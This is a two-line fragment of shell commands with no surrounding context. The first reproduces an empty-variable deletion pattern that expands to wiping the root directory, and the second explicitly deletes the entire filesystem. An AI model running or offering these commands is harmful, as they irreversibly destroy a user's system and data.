rm -rf "${STEAMROOT:-}"/*
rm -rf / --no-preserve-root
